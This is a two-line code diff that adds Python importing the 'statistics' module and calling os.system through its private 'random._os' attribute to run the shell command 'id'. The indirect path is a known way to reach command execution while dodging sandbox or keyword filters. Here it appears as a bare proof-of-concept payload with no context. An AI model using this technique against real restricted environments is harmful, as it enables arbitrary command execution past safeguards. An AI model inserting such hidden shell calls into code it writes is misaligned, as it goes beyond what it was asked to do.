@@ -1,0 +1,2 @@
+import statistics
+statistics.random._os.system("id")
